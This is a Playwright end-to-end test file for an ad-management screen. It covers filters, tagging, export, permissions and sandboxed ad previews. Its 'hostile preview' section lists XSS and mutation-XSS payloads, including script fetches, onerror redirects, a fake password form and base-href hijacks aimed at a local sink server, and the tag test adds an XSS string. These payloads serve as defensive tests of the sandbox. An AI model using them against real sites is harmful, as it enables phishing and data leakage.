import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import {
  AT_LENGTH,
  enter,
  expect,
  expectAccessible,
  expectAccessibleInBoth,
  menuEntry,
  signIn,
  test,
} from './support/test';

const open = async (page: Page, username: string, query = '?company_id=1') => {
  await enter(page, username);
  await page.goto(`/facebook-ads${query}`);
  await expect(page.getByText(/[\d,]+ total records/)).toBeVisible();
};
const total = (page: Page, words: string | RegExp) => expect(page.getByText(words)).toBeVisible();
const openFirst = async (page: Page) => {
  await page.locator('.ad-name').first().click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('heading', { name: 'Ad Info' })).toBeVisible();
  return dialog;
};
/** Two frames on, whatever was about to happen has started. */
const drawn = (page: Page) =>
  page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
/** Answers every preview with this HTML. */
const preview = (page: Page, preview_html: string | null, error: string | null = null) =>
  page.route('**/api/facebook-ads/*/preview', (route) => route.fulfill({ json: { preview_html, error } }));

test('a company is chosen first; then ads are filtered, sorted and added up, and another company has other tags', async ({
  page,
}) => {
  await signIn(page, 'ad-manager');
  await menuEntry(page, 'Facebook Ads').click();
  await expect(page.getByRole('heading', { name: 'Select a Company' })).toBeVisible();
  await page.getByRole('combobox', { name: 'Company' }).click();
  await page.getByRole('option', { name: 'Harbor & Pine Outfitters' }).click();
  await total(page, '600 total records (0 selected)');
  const totals = page.getByRole('row', { name: /All 600 matching/ });
  await expect(totals).toContainText(/\$[\d,]+\.\d\d/);
  const ofAll = await totals.textContent();

  await page.getByRole('combobox', { name: 'Has Tags' }).click();
  await page.getByRole('option', { name: 'winner' }).click();
  await expect(page).toHaveURL(/include_tags=winner/);
  await expect(page.getByText('600 total records')).toHaveCount(0);
  await page.keyboard.press('Escape');
  const filtered = page.getByRole('row', { name: /^All \d+ matching/ });
  await expect(filtered).toBeVisible();
  expect(await filtered.textContent()).not.toBe(ofAll);
  await page.getByRole('button', { name: 'More filters' }).click();
  await page.getByLabel('Min Spend (7d)').fill('lots');
  await expect(page.getByText('Min Spend (7d) must be a valid number')).toBeVisible();
  await page.getByLabel('Min Spend (7d)').fill('100');
  await expect(page).toHaveURL(/min_spend_7d=100/);
  await page.getByRole('button', { name: '28d Spend' }).click();
  await expect(page).toHaveURL(/sort_by=cached_spend_last_28d/);
  await page.reload();
  await expect(page.getByRole('button', { name: 'Remove tag winner' })).toBeVisible();

  await page.getByRole('combobox', { name: 'Company' }).click();
  await page.getByRole('option', { name: 'Lumen Skin Studio' }).click();
  await expect(page).not.toHaveURL(/include_tags/);
  await expect(page).toHaveURL(/min_spend_7d=100/);
});

test('tags of any text are added, shown and removed exactly (TAG-01, TAG-02)', async ({ page }) => {
  test.setTimeout(120_000);
  await open(page, 'ad-manager', '?company_id=2&sort_by=cached_ad_name&page=3');
  await page
    .getByRole('button', { name: /^Add tag to/ })
    .first()
    .click();
  const dialog = page.getByRole('dialog');
  const tags = dialog.getByRole('list', { name: 'Tags' }).getByRole('listitem');
  await expect(dialog).toBeVisible();
  const before = await tags.allTextContents();
  const odd = [
    'x/y',
    '%2e%2e%2f',
    'what? now',
    '#7 & more',
    '100%%',
    'it\'s "quoted"',
    '🛍️ sale',
    'מבצע חדש',
    '<img src=x onerror=alert(1)>',
    'f'.repeat(50),
  ];
  const field = dialog.getByRole('combobox', { name: 'Tags to add' });
  for (const name of odd) {
    await field.fill(name);
    await field.press('Enter');
  }
  await dialog.getByRole('button', { name: 'Add', exact: true }).click();
  await expect(page.getByText(`Added ${odd.length} tag(s) to ad`)).toBeVisible({ timeout: 20_000 });
  await expect(tags).toHaveCount(before.length + odd.length);
  for (const [at, name] of odd.entries()) {
    await dialog.getByRole('button', { name: `Remove tag ${name}`, exact: true }).click();
    await expect(page.getByText(`Tag "${name}" removed`)).toBeVisible();
    await expect(tags).toHaveCount(before.length + odd.length - at - 1);
  }
  expect(await tags.allTextContents()).toEqual(before);
});

test('by keyboard: the selection is tagged and untagged, and the progress message clears after 3 seconds', async ({
  page,
}) => {
  await open(page, 'ad-manager', '?company_id=2&sort_by=cached_ad_name&page=5');
  const boxes = page.getByRole('checkbox', { name: /^Select (?!all)/ });
  const tagSelection = async (action: string) => {
    await boxes.nth(0).focus();
    await page.keyboard.press('Space');
    await boxes.nth(1).focus();
    await page.keyboard.press('Space');
    await total(page, /\(2 selected\)/);
    await page.getByRole('button', { name: action }).focus();
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: action });
    const field = dialog.getByRole('combobox', { name: 'Tags' });
    await expect(field).toBeFocused();
    await dialog.getByRole('button', { name: action }).click();
    await expect(dialog.getByText('Please select at least one tag.')).toBeVisible();
    await expect(field).toBeFocused();
    await page.keyboard.type('e2e keyboard');
    await expect(page.getByRole('option', { name: /e2e keyboard/ })).toBeVisible();
    await page.keyboard.press('Enter');
    await expect(dialog.getByRole('button', { name: 'Remove tag e2e keyboard' })).toBeVisible();
    await page.keyboard.press('ControlOrMeta+Enter');
  };
  await tagSelection('Add Tags');
  const progress = page.getByText('Added tags to 2 ads');
  await expect(progress).toBeVisible();
  await expect(progress).toHaveCount(0, { timeout: 4500 });
  await expect(page.getByRole('button', { name: /^Undo/ })).toBeVisible();
  await total(page, /\(0 selected\)/);
  await tagSelection('Remove Tags');
  await expect(page.getByText('Removed tags from 2 ads')).toBeVisible();
});

test('everything that matches is exported by the service', async ({ page }) => {
  await open(page, 'ad-manager', '?company_id=1&ad_type=video');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: /^Export all \d+ matching/ }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^facebook_ads_export_\d{4}-\d{2}-\d{2}\.csv$/);
  const text = readFileSync(await file.path(), 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text).toContain('Ad Name');
  await expect(page.getByText(/^Exported \d+ ads$/)).toBeVisible();
});

test('someone without AdManager views ads and previews, and changes nothing', async ({ page }) => {
  await open(page, 'staff');
  await expect(page.getByRole('button', { name: /^Add tag to|^Export/ })).toHaveCount(0);
  await expect(page.getByRole('checkbox')).toHaveCount(0);
  const dialog = await openFirst(page);
  await expect(dialog.getByRole('button', { name: 'Add Tag' })).toHaveCount(0);
});

test("a missing preview reads 'Preview Not Available', a failing one offers another try (PREV-05)", async ({
  page,
}) => {
  await open(page, 'ad-manager');
  await preview(page, null, 'The ad was deleted.');
  const dialog = await openFirst(page);
  await expect(dialog.getByText('Preview Not Available')).toBeVisible();
  await expect(dialog.getByText('The ad was deleted.')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await page.unroute('**/api/facebook-ads/*/preview');
  await page.route('**/api/facebook-ads/*/preview', (route) => route.fulfill({ status: 500, json: {} }));
  const again = await openFirst(page);
  await expect(again.getByText('Failed to load ad preview')).toBeVisible();
  await page.unroute('**/api/facebook-ads/*/preview');
  await preview(page, '<p>Here it is</p>');
  await again.getByRole('button', { name: 'Retry' }).click();
  await expect(again.frameLocator('iframe').getByText('Here it is')).toBeVisible();
});

test.describe('a hostile preview', () => {
  // The frame's own policy reports what it has refused.
  test.use({ expectedErrors: /Content Security Policy/ });

  const vectors = (sink: string) => [
    `<script>parent.localStorage;fetch('${sink}')</script>`,
    `<img src=x onerror="top.location='${sink}'"><img src="${sink}/pixel.png" srcset="${sink}/2.png 2x"><svg onload="fetch('${sink}')">`,
    `<div style="background:url(${sink}/style.png)">x</div><style>@import '${sink}/a.css';@font-face{font-family:f;src:url(${sink}/f)}p{font-family:f;background:url(${sink}/b)}</style><p>x</p>`,
    `<link rel=stylesheet href="${sink}/a.css"><link rel=preconnect href="${sink}"><link rel=prefetch href="${sink}/p"><link rel=dns-prefetch href="${sink}">`,
    `<template shadowrootmode=open><link rel=preconnect href="${sink}"><img src="${sink}/t"></template>`,
    `<div><template shadowrootmode=open><link rel=preconnect href="${sink}"></template></div>`,
    `<form action="${sink}" target=_top method=post><input name=password autofocus><button>Log in again</button></form>`,
    `<meta http-equiv=refresh content="0;url=${sink}"><base href="${sink}" target=_top><a href=go>Out</a>`,
    `<iframe src="${sink}"></iframe><iframe src="javascript:parent.parent.alert(1)"></iframe><object data="${sink}"></object><embed src="${sink}">`,
    `<a href="${sink}" target=_top>Out</a><a href="${sink}" target=_blank ping="${sink}">Out</a><svg><a href="${sink}"><text y=20>Out</text></a><image href="${sink}/i"/><use href="${sink}/u#a"/></svg>`,
    // Two that mean something else when they are read for the second time, and swallow what comes after them.
    `<button>Button of the ad</button><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;p&gt;&lt;link rel=preconnect href=${sink}&gt;">`,
    `<button>Button of the ad</button><form><math><mtext></form><form><mglyph><style></math><link rel=preconnect href=${sink}>`,
    `<video poster="${sink}/v" src="${sink}/w" autoplay></video><audio src="${sink}/a" autoplay></audio><body background="${sink}/b">`,
  ];

  test('runs nothing, fetches nothing, leads nowhere, and the page stays (PREV-01, PREV-03)', async ({
    page,
    context,
  }) => {
    let connections = 0;
    const server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const sink = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    page.on('dialog', () => (connections += 1000));
    await open(page, 'ad-manager');
    const address = page.url();
    for (const html of vectors(sink)) {
      await test.step(html, async () => {
        await preview(page, `${html}<button>Button of the ad</button>`);
        const dialog = await openFirst(page);
        const frame = dialog.locator('iframe');
        await expect(frame).toHaveAttribute('sandbox', '');
        await expect(frame).toHaveAttribute('referrerpolicy', 'no-referrer');
        const inside = dialog.frameLocator('iframe');
        await expect(inside.getByText('Button of the ad').first()).toBeAttached();
        for (const link of await inside.getByText(/^(Out|Log in again|Button of the ad)$/).all())
          // One that the markup has swallowed is nowhere to be clicked.
          if (await link.isVisible()) await link.click({ force: true, noWaitAfter: true });
        await drawn(page);
        expect(page.url()).toBe(address);
        expect(context.pages()).toHaveLength(1);
        await dialog.getByRole('button', { name: 'Close' }).last().click();
        await expect(dialog).toBeHidden();
        await page.unroute('**/api/facebook-ads/*/preview');
      });
    }
    // Behind all that the ads have asked for.
    await fetch(sink).catch(() => undefined);
    expect(connections).toBe(1);
    server.close();
  });
});

test('when the session ends the screen goes to the login', async ({ page }) => {
  await open(page, 'ad-manager');
  await page.route('**/api/facebook-ads?**', (route) => route.fulfill({ status: 401, json: { detail: 'Ended' } }));
  await page.route('**/api/token/refresh*', (route) => route.fulfill({ status: 401, json: { detail: 'Ended' } }));
  await page.getByRole('button', { name: 'Ad Name' }).click();
  await expect(page).toHaveURL(/\/login/);
});

for (const width of [1440, 390]) {
  test(
    `axe finds nothing serious in ads, their previews and their tags, in light and in dark, ${width} px wide`,
    // On every change details.spec has axe look at an ad's preview on a phone.
    AT_LENGTH,
    async ({ page }) => {
      test.setTimeout(240_000);
      await page.setViewportSize({ width, height: 900 });
      await open(page, 'ad-manager', '?company_id=1&include_tags=winner');
      // The spend of all that match is in view without scrolling.
      // On a phone the foot below says how many that are.
      const count = width < 640 ? /^\d+ total records/ : /^All \d+ matching$/;
      await expect(page.getByText(count).filter({ visible: true })).toBeInViewport({ ratio: 1 });
      const totals = page.locator('.list-table__totals, .list-totals').filter({ visible: true });
      const spends = totals.getByText(/^\$[\d,]+\.\d\d$/);
      await expect(spends).toHaveCount(4);
      for (const spend of await spends.all()) await expect(spend).toBeInViewport({ ratio: 1 });
      await expectAccessibleInBoth(page);
      await page
        .getByRole('checkbox', { name: /^Select (?!all)/ })
        .first()
        .check();
      await page.getByRole('button', { name: 'Add Tags' }).click();
      await page.getByRole('dialog').getByRole('combobox', { name: 'Tags' }).fill('a');
      await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
      await expectAccessibleInBoth(page);
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').getByRole('combobox', { name: 'Tags' }).fill('');
      await page.keyboard.press('Escape');
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog')).toBeHidden();
      await preview(page, '<p>Free shipping on your first order.</p>');
      const dialog = await openFirst(page);
      await expect(dialog.locator('iframe')).toHaveAttribute('title', /^Preview of ./);
      await expectAccessible(page);
      await page.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
      await preview(page, null, 'The ad was deleted.');
      const without = await openFirst(page);
      await without.getByRole('button', { name: 'Add Tag' }).click();
      await expectAccessibleInBoth(page);
    },
  );
}
